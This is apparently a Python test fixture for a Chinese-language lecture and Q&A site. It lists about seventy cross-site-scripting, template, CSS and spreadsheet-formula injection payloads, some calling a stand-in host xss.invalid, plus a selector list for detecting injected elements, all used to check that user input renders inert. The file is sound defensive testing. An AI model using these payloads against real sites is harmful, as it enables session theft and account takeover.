"""Hostile input for the XSS tests: every string here is posted wherever
people may type (comments, nicknames, questions, written answers, poll
titles, options and text answers, lecture titles, descriptions, speaker
names and titles) and must come out as inert text on every page and in
every export.

A payload that ran would do one of two things the tests watch for: set
``window.__xss`` (or ``top.__xss``), or request a URL with ``__xss`` in it
(``/__xss…`` on the server, or ``xss.invalid``). Any element one of them
managed to create carries an ``on*`` attribute, a ``javascript:`` URL, a
``data-xss`` attribute or the ``xss-injected`` class, which the tests look
for in the DOM. Every payload also holds visible text, so the tests can
check it was shown rather than dropped.
"""

from __future__ import annotations

import unicodedata

MARK = "window.__xss=1"

PAYLOADS: list[str] = [
    # -- plain tags and event-handler attributes ------------------------------
    f"<script>{MARK}</script>",
    f"<img src=x onerror=\"{MARK}\">",
    f"<img src=/__xss/img.png data-xss>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<body onload={MARK}>",
    f"<iframe src=\"javascript:{MARK}\"></iframe>",
    f"<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
    f"<details open ontoggle={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<video><source onerror=\"{MARK}\"></video>",
    f"<marquee onstart={MARK}>滚动</marquee>",
    "<b class=xss-injected>粗体</b><i>斜体</i>",
    f"<div style=\"width:100%;height:100%;position:fixed\" onmouseover=\"{MARK}\">",
    f"<object data=\"javascript:{MARK}\"></object>",
    f"<embed src=\"javascript:{MARK}\">",
    f"<form><button formaction=javascript:{MARK}>X</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://xss.invalid/__xss\">",
    "<base href=\"http://xss.invalid/__xss/\">",
    "<link rel=stylesheet href=\"/__xss/style.css\">",
    # -- attribute breakouts: quotes that would close an attribute value -------
    f"\" onmouseover=\"{MARK}\" x=\"",
    f"' onfocus='{MARK}' autofocus='",
    f"\"><img src=x onerror={MARK}>",
    f"'><svg/onload={MARK}>",
    f"`><img src=x onerror={MARK}>`",
    # -- javascript: and data: links --------------------------------------------
    f"javascript:{MARK}",
    f"<a href=\"javascript:{MARK}\">点我</a>",
    f"<a href=\"JaVaScRiPt&colon;{MARK}\">点我</a>",
    f"<a href=\"jav&#x09;ascript:{MARK}\">tab</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==\">data</a>",
    "[点我](javascript:window.__xss=1)",
    # -- SVG and MathML ----------------------------------------------------------
    f"<svg><a xlink:href=\"javascript:{MARK}\"><text x=20 y=20>XSS</text></a></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    # -- broken and alternative encodings ---------------------------------------
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"&#60;img src=x onerror={MARK}&#62;",
    f"\\u003cimg src=x onerror={MARK}\\u003e",
    f"%3Cscript%3E{MARK}%3C%2Fscript%3E",
    f"＜script＞{MARK}＜/script＞",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<img src=x onerror=&#119;indow.__xss=1>",
    f"<<img src=x onerror={MARK}//<",
    "\ufffd\ufffe<img src=x onerror=window.__xss=1>\udcff".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
    # -- template-looking text (server or client template engines) --------------
    "{{7*7}}",
    "${alert(1)}",
    "{{constructor.constructor('window.__xss=1')()}}",
    "<%= 7*7 %> #{7*7} {% raw %}",
    "{{ lecture.title|safe }}",
    # -- CSS injection ------------------------------------------------------------
    "<style>body{display:none}*{background:url(/__xss/css.png)}</style>",
    "</style><style>@import '/__xss/import.css';</style>",
    "color:red;background:url(\"/__xss/bg.png\")",
    "expression(window.__xss=1)",
    # -- breaking out of <script> and <textarea>/<title> -------------------------
    f"</script><script>{MARK}</script>",
    f"</SCRIPT ><img src=x onerror={MARK}>",
    f"<!--</script><script>{MARK}//-->",
    f"</textarea><img src=x onerror={MARK}>",
    f"</title><img src=x onerror={MARK}>",
    "\"},\"title\":\"<img src=x onerror=window.__xss=1>",
    # -- right-to-left overrides, zero-width and combining characters ----------
    "\u202eevil.exe\u202c ‮gpj.exe 文件",
    "\u200b\u200c\u200d\u2060零宽\ufeff字符\u200b<img src=x onerror=window.__xss=1>",
    "Z\u0335\u0321\u0354a\u0336\u031bl\u0337\u0322g\u0338\u0327o\u0334\u0328 组合字符",
    "e\u0301 é n\u0303 ñ 𝒳𝒮𝒮 👨\u200d👩\u200d👧",
    "\u2066<img src=x onerror=window.__xss=1>\u2069 隔离",
    # -- very long words ------------------------------------------------------------
    "超长" + "A" * 280,
    "https://example.org/" + "a/" * 100 + "?q=<script>window.__xss=1</script>",
    "劳" * 250,
    # -- spreadsheet formulas (CSV injection: the CSV export must neutralise them)
    "=HYPERLINK(\"http://xss.invalid/__xss\",\"点我\")",
    "+cmd|' /C calc'!A0 加号",
    "-2+3+cmd|' /C calc'!A0 减号",
    "@SUM(1+1)*cmd|' /C calc'!A0 艾特",
    # -- Chinese prose around markup (what a real attacker would blend in) -------
    f"为劳模点赞！<img src=x onerror={MARK}>太好了",
    "陈亮师傅，请问<script src=//xss.invalid/__xss.js></script>怎样成为技术骨干？",
]

assert len(PAYLOADS) >= 50, len(PAYLOADS)
assert len(set(PAYLOADS)) == len(PAYLOADS), "payloads are distinct (the server refuses repeats)"


def fit(text: str, limit: int) -> str:
    """The payload cut to a field's limit, on a character boundary."""
    return text[:limit]


def shown(text: str) -> str:
    """What the page should show for a stored text: white space folded
    (the way a page's text content is compared), NFC."""
    return " ".join(unicodedata.normalize("NFC", text).split())


# Signs, in a page's DOM, that markup from a payload became elements.
INJECTED = (
    "[onerror], [onload], [onclick], [onmouseover], [onfocus], [ontoggle], [onstart], [onbegin], "
    "[formaction], [srcdoc], [data-xss], .xss-injected, "
    "a[href^='javascript' i], iframe[src^='javascript' i], object[data^='javascript' i], embed[src^='javascript' i], "
    "img[src='x'], img[src*='__xss'], link[href*='__xss'], script[src*='__xss'], base[href*='xss'], "
    "meta[http-equiv='refresh' i], marquee, details[ontoggle], math, mglyph, body body"
)
